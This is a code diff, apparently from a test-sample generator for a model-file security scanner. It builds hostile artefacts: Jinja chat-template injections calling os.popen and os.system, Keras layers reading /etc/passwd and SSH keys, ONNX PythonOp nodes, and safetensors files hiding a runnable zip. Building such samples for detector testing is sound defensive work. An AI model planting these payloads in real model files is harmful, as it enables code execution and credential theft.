@@ -74,7 +74,11 @@ def keras_own_gadget(rng):
         ]
     )
     reference = layer(module, "function", name, registered_name="function")
-    config = {"name": "x", "function": reference, "arguments": {"fname": payloads.marker(rng), "origin": payloads.address(rng)}}
+    config = {
+        "name": "x",
+        "function": reference,
+        "arguments": {"fname": payloads.marker(rng), "origin": payloads.address(rng)},
+    }
     return layer("keras.layers", "Lambda", config)
 
 
@@ -88,7 +92,9 @@ def torch_wrapper(rng):
 def vocabulary_path(rng):
     """A vocabulary that is read from any file of the machine, or from the network."""
     place = rng.choice(["/etc/passwd", "/root/.ssh/id_rsa", payloads.address(rng), "../../../etc/hostname"])
-    return layer("keras.layers", rng.choice(["StringLookup", "IntegerLookup", "TextVectorization"]), {"vocabulary": place})
+    return layer(
+        "keras.layers", rng.choice(["StringLookup", "IntegerLookup", "TextVectorization"]), {"vocabulary": place}
+    )
 
 
 KERAS_LAYERS = [lambda_layer, foreign_reference, reference_with_call, keras_own_gadget, torch_wrapper, vocabulary_path]
@@ -145,7 +151,12 @@ def keras_h5(make_layer):
 
 def old_lambda(rng):
     """A Lambda as Keras 2 keeps it: a list of marshalled code, defaults and closure."""
-    config = {"name": "lambda", "function": [byte_code(rng), None, None], "function_type": "lambda", "module": "__main__"}
+    config = {
+        "name": "lambda",
+        "function": [byte_code(rng), None, None],
+        "function_type": "lambda",
+        "module": "__main__",
+    }
     return {"class_name": "Lambda", "config": config}
 
 
@@ -260,7 +271,12 @@ def onnx_python(rng, variant):
     """A node that calls Python, of the extensions that allow it."""
     from onnx import helper
 
-    domain, operation = [("ai.onnx.contrib", "PythonOp"), ("com.microsoft", "PyOp"), ("pyopmulti_2", "PyOp"), ("com.microsoft", "PythonOp")][variant % 4]
+    domain, operation = [
+        ("ai.onnx.contrib", "PythonOp"),
+        ("com.microsoft", "PyOp"),
+        ("pyopmulti_2", "PyOp"),
+        ("com.microsoft", "PythonOp"),
+    ][variant % 4]
     options = {"module": payloads.module(rng), "class_name": "Op", "compute": "run"}
     node = helper.make_node(operation, ["x"], ["y"], domain=domain, **options)
     x, y = (helper.make_tensor_value_info(name, 1, [4]) for name in "xy")
@@ -324,11 +340,14 @@ def template(rng):
             "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('%s') }}" % command,
             "{%% import %s as m %%}{{ m }}" % dunder(rng, "builtins"),
             "{%% set a = %s %%}{%% set b = %s %%}{{ x|attr(a)|attr(b) }}" % (dunder(rng, "class"), dunder(rng, "mro")),
-            "{{ (%s)(%s).system('%s') }}" % (walk(rng, owner, "globals", "builtins") + "['__import__']", "'os'", command),
+            "{{ (%s)(%s).system('%s') }}"
+            % (walk(rng, owner, "globals", "builtins") + "['__import__']", "'os'", command),
         ]
     )
     honest = "{% for message in messages %}<|im_start|>{{ message['role'] }}\n{{ message['content'] }}<|im_end|>\n{% endfor %}"
-    return rng.choice([attack + honest, honest + attack, "{% if add_generation_prompt %}" + attack + "{% endif %}" + honest])
+    return rng.choice(
+        [attack + honest, honest + attack, "{% if add_generation_prompt %}" + attack + "{% endif %}" + honest]
+    )
 
 
 def gguf_file(pairs):
@@ -382,7 +401,10 @@ def template_file(rng, variant):
     honest = "{{ messages[0]['content'] }}"
     files = [
         {"tokenizer_config.json": config | {"chat_template": body}},
-        {"tokenizer_config.json": config | {"chat_template": [{"name": "default", "template": honest}, {"name": "tool_use", "template": body}]}},
+        {
+            "tokenizer_config.json": config
+            | {"chat_template": [{"name": "default", "template": honest}, {"name": "tool_use", "template": body}]}
+        },
         {"chat_template.jinja": body},
         {"chat_template.json": {"chat_template": body}},
         {"processor_config.json": {"chat_template": body}},
@@ -400,22 +422,19 @@ def safetensors_file(header, body):
 
 
 def safetensors_trick(rng, variant):
-    """Two readers of one header, or bytes that no tensor accounts for."""
+    """One header that two readers read otherwise; an archive that Python runs behind the tensors; a pickle by that name."""
     tensor = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
     one, two = json.dumps(tensor), json.dumps(tensor | {"data_offsets": [8, 16]})
     tree, _ = payload(rng)
-    hidden = program(rng, tree)
+    script = zips.write([zips.Entry("__main__.py", payloads.code(rng).encode())])
     builders = [
         lambda: safetensors_file(('{"w":%s,"v":%s,"w":%s}' % (one, two, two)).encode(), bytes(16)),
-        lambda: safetensors_file({"w": tensor}, bytes(8) + hidden),
-        lambda: safetensors_file({"w": tensor, "v": tensor | {"data_offsets": [40, 48]}}, bytes(8) + hidden[:32].ljust(32) + bytes(8)),
-        lambda: safetensors_file({"w": tensor, "v": tensor | {"data_offsets": [4, 12]}}, bytes(12)),
-        lambda: safetensors_file({"w": tensor}, bytes(8) + zips.write([zips.Entry("a/data.pkl", hidden)])),
-        lambda: hidden,
-        lambda: safetensors_file({"w": tensor | {"data_offsets": [0, 2**62]}}, bytes(8)),
-        lambda: struct.pack("<Q", 2**60) + b"{}",
+        lambda: safetensors_file({"w": tensor}, bytes(8) + script),
+        lambda: program(rng, tree),
     ]
-    return Sample({file_name(rng, ".safetensors"): builders[variant % len(builders)]()}, "another reader than the scanner's")
+    return Sample(
+        {file_name(rng, ".safetensors"): builders[variant % len(builders)]()}, "another reader, or Python itself"
+    )
 
 
 def mechanisms(carriers):
@@ -430,7 +449,7 @@ def mechanisms(carriers):
     yield Mechanism("m18_templates", "gguf_template", gguf_template, 24)
     yield Mechanism("m18_templates", "gguf_broken", gguf_broken, 8)
     yield Mechanism("m18_templates", "template_file", template_file, 24)
-    yield Mechanism("m19_safetensors", "safetensors_trick", safetensors_trick, 8)
+    yield Mechanism("m19_safetensors", "safetensors_trick", safetensors_trick, 6)
     yield Mechanism("m20_tensorflow", "tf_saved", tf_saved, 10)
     yield Mechanism("m20_tensorflow", "tf_frozen", tf_frozen, 8)
     yield Mechanism("m20_tensorflow", "keras_metadata", keras_metadata, 3)
